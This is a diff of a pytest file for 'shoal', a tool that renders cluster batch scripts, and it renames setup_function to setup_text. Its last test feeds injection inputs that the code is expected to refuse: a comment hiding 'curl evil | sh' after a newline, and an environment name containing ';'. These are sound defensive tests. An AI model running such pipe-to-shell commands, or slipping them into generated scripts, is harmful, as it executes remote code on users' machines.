@@ -14,7 +14,7 @@ import pytest
 from shoal.describe.cluster import Cluster
 from shoal.errors import InputError
 from shoal.model import Request
-from shoal.plan.batch_script import launch_lines, render_script, script_header, setup_function, split_torchrun
+from shoal.plan.batch_script import launch_lines, render_script, script_header, setup_text, split_torchrun
 
 GOLDEN = Path(__file__).parent / "golden"
 CLUSTER = Cluster(
@@ -45,7 +45,7 @@ def assert_golden(name: str, text: str) -> None:
 )
 def test_the_script_is_what_the_golden_file_says(name: str, launch: str, command: list[str], request_: Request) -> None:
     text = render_script(
-        script_header(OPTIONS, ["a comment"]), setup_function(CLUSTER), launch_lines(launch, command, request_)
+        script_header(OPTIONS, ["a comment"]), setup_text(CLUSTER), launch_lines(launch, command, request_)
     )
     assert_golden(name, text)
     assert subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True).stderr == ""
@@ -56,7 +56,7 @@ def run(text: str, cwd: Path) -> subprocess.CompletedProcess[str]:
 
 
 def script(cluster: Cluster, command: list[str]) -> str:
-    return render_script(script_header([]), setup_function(cluster), launch_lines("process", command, Request()))
+    return render_script(script_header([]), setup_text(cluster), launch_lines("process", command, Request()))
 
 
 def test_exports_arrive_unchanged_and_setup_lines_run_after_them(tmp_path: Path) -> None:
@@ -99,7 +99,7 @@ def test_a_here_document_in_setup_is_not_indented(tmp_path: Path) -> None:
 
 def test_several_nodes_outside_a_job_say_that_sbatch_is_needed(tmp_path: Path) -> None:
     text = render_script(
-        script_header([]), setup_function(Cluster(name="x")), launch_lines("torchrun", ["a.py"], Request(nodes=2))
+        script_header([]), setup_text(Cluster(name="x")), launch_lines("torchrun", ["a.py"], Request(nodes=2))
     )
     done = subprocess.run(["bash"], input=text, capture_output=True, text=True, env={"PATH": os.environ["PATH"]})
     assert done.returncode != 0
@@ -127,6 +127,6 @@ def test_what_cannot_be_written_safely_is_refused() -> None:
     with pytest.raises(InputError):
         script_header([], ["a\ncurl evil | sh"])
     with pytest.raises(InputError):
-        setup_function(Cluster(name="x"), {"A;B": "1"})
+        setup_text(Cluster(name="x"), {"A;B": "1"})
     with pytest.raises(InputError, match="no launch 'mpi'"):
         launch_lines("mpi", ["x"], Request())
